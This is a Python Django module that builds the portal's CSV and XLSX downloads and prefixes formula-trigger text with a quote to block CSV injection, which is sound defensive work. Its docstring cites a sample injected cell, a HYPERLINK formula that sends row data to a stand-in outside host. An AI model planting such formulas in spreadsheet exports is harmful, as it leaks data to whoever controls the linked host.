"""Every CSV and XLSX the portal hands out is written here, with its cells made inert.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some programs,
a tab or carriage return) as a formula: an organization named ``=HYPERLINK("http://x/?"&B2,…)``
would leak the row to whoever opens the file. As OWASP recommends ("CSV injection"), such text
is written with a single quote in front, which spreadsheets show as text and never evaluate.
Numbers stay numbers: only text is rewritten, and text that is just a plain number (``-12.50``)
is left alone, since it cannot be a formula.
"""

import csv
import re
from collections.abc import Iterable
from io import BytesIO

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def inert(value):
    """``value`` as a spreadsheet cell that cannot run: text beginning with a formula trigger
    gets a leading single quote; everything else is returned unchanged."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def inert_row(values: Iterable) -> list:
    """One row of cells, each made inert; None becomes an empty cell."""
    return ["" if value is None else inert(value) for value in values]


class InertCsvWriter:
    """``csv.writer`` whose every cell goes through ``inert``."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, values):
        return self._writer.writerow(inert_row(values))

    def writerows(self, rows):
        for values in rows:
            self.writerow(values)


def csv_writer(stream) -> InertCsvWriter:
    return InertCsvWriter(stream)


def _attachment(response, filename: str):
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(filename: str, rows: Iterable[Iterable], *, header=None) -> HttpResponse:
    """A CSV download built in memory (small files)."""
    response = HttpResponse(content_type=CSV_CONTENT_TYPE)
    writer = csv_writer(response)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return _attachment(response, filename)


class _Echo:
    def write(self, value):
        return value


def csv_streaming_response(
    filename: str, rows: Iterable[Iterable], *, header=None
) -> StreamingHttpResponse:
    """A CSV download written row by row as it is sent (long lists, flat memory)."""
    writer = csv_writer(_Echo())

    def lines():
        if header is not None:
            yield writer.writerow(header)
        for values in rows:
            yield writer.writerow(values)

    return _attachment(StreamingHttpResponse(lines(), content_type=CSV_CONTENT_TYPE), filename)


def xlsx_append(sheet, values: Iterable) -> None:
    """Append one row to an openpyxl worksheet, each cell made inert (openpyxl would otherwise
    store text beginning with ``=`` as a formula)."""
    sheet.append([inert(value) for value in values])


def xlsx_set(sheet, coordinate: str | None = None, value=None, *, row=None, column=None):
    """Set one cell of an openpyxl worksheet, by coordinate ("B2") or row and column, inertly."""
    if coordinate is not None:
        cell = sheet[coordinate]
        cell.value = inert(value)
        return cell
    return sheet.cell(row=row, column=column, value=inert(value))


def xlsx_bytes(workbook) -> bytes:
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(filename: str, content: bytes) -> HttpResponse:
    return _attachment(HttpResponse(content, content_type=XLSX_CONTENT_TYPE), filename)
